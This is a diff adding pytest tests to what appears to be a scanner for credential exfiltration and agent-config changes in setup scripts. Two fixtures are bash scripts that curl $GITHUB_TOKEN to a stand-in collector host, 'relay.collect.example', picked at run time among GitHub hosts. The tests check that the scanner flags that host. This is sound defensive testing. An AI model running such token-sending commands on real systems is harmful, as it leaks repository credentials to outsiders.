@@ -473,3 +473,36 @@ def test_a_host_picked_at_run_time_is_judged_for_each_host_in_ruby_go_and_powers
     assert flows and "relay.collect.example" in flows[0], found({path: text})
     honest = text.replace("https://relay.collect.example/in", "https://uploads.github.com/y")
     assert _loud({path: honest}) == []
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "#!/bin/bash\nhosts=(https://api.github.com/x https://relay.collect.example/in)\nh=${hosts[$RANDOM % 2]}\n"
+        'curl -s -d "t=$GITHUB_TOKEN" "$h"\n',
+        "#!/bin/bash\nfor h in https://api.github.com/x https://relay.collect.example/in; do\n"
+        '  curl -s -d "t=$GITHUB_TOKEN" "$h" && break\ndone\n',
+    ],
+)
+def test_a_shell_send_to_a_host_picked_at_run_time_names_the_stranger_and_the_providers_hosts_pass(script):
+    flows = [(line, msg) for _, rule, _, line, msg in found({"s.sh": script}) if rule == FLOW]
+    assert flows and "relay.collect.example" in flows[0][1], found({"s.sh": script})
+    honest = script.replace("https://relay.collect.example/in", "https://uploads.github.com/y")
+    assert _loud({"s.sh": honest}) == []
+
+
+def test_a_download_the_script_runs_beside_an_official_server_entry_is_not_read_as_the_server():
+    script = (
+        "#!/bin/sh\ncurl -fsSL https://releases.example.com/tool.tar.gz -o tool.tar.gz\n"
+        "cat > .mcp.json <<'JSON'\n"
+        '{"mcpServers": {"fs": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "."]}}}\n'
+        "JSON\n"
+    )
+    assert [x for x in _loud({"setup.sh": script}) if x[0] == AGENT_CONFIG] == []
+    js = (
+        "const { execFileSync } = require('child_process');\nconst fs = require('fs');\n"
+        "execFileSync('curl', ['-fsSL', 'https://releases.example.com/t.tgz', '-o', 't.tgz']);\n"
+        "const cfg = {mcpServers: {fs: {command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem']}}};\n"
+        "fs.writeFileSync('.mcp.json', JSON.stringify(cfg));\n"
+    )
+    assert [x for x in _loud({"setup.js": js}) if x[0] == AGENT_CONFIG] == []
